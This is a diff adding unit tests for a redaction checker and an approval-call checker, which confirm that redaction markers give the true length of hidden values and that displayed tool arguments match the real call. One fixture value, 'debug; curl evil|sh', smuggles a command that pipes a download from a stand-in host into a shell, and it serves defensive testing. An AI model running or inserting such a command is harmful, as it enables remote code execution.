@@ -29,6 +29,20 @@ describe('isRedactionOf', () => {
     assert.equal(isRedactionOf({ ...raw, extra: 1 }, raw), false, 'a key added');
     assert.equal(isRedactionOf([1, 2], { 0: 1, 1: 2 }), false);
   });
+
+  test('a marker names the length of the value it stands for, and of no other', () => {
+    const raw = (value: unknown) => ({ service: 'api', key: 'LOG_LEVEL', value });
+    const shown = (marker: string) => ({ service: 'api', key: 'LOG_LEVEL', value: marker });
+    assert.equal(isRedactionOf(shown('[REDACTED: 5 characters]'), raw('debug')), true);
+    assert.equal(isRedactionOf(shown('[REDACTED: 5 characters]'), raw('debug; curl evil|sh')), false, 'another length than the real value');
+    assert.equal(isRedactionOf(shown('[REDACTED: 19 characters]'), raw('debug; curl evil|sh')), true);
+    assert.equal(isRedactionOf(shown('[REDACTED: 1 characters]'), raw('x')), false, 'only the marker as written for that value');
+    assert.equal(isRedactionOf(shown('[REDACTED: 11 characters]'), raw({ a: [1, 2] })), true, 'any other value: its JSON text');
+    // A marker the agent wrote as a value claims a length it does not have.
+    assert.equal(isRedactionOf(shown('[REDACTED: 3 characters]'), raw('[REDACTED: 3 characters]')), false);
+    // A row written before lengths were shown names none: it stands for any value, as it did.
+    assert.equal(isRedactionOf(shown('[REDACTED]'), raw('debug; curl evil|sh')), true);
+  });
 });
 
 describe('checkShownCall', () => {
@@ -59,6 +73,13 @@ describe('checkShownCall', () => {
     // With the digest recomputed over those arguments, the same row passes: the digest is what binds them.
     const digest = callDigestOver(req.proposal.tool, pending.args, req.decision.policyHash, pending.stateHash!);
     assert.equal(codeOf({ ...row, callDigest: digest }, sessionViewOf(req, [{ ...pending, callDigest: digest }])), 'ok');
+  });
+
+  test('a row and a view that agree with each other on a length the real value does not have', () => {
+    // The session's own redaction would say 14 characters (`sk-live-secret`); both claim 4.
+    const claimed = { filter: { test: true, month: '2026-10' }, apiKey: '[REDACTED: 4 characters]' };
+    const r = checkShownCall(recordOf(req, { redactedArgs: claimed }), sessionViewOf(req, [{ ...pendingViewOf(req), redactedArgs: claimed }]));
+    assert.equal(r.ok === false && r.code === 'call-mismatch' && r.message.includes('the arguments shown are not the call\'s'), true, JSON.stringify(r));
   });
 
   test('no such pending approval, a gone session, a view without what the digest covers', () => {
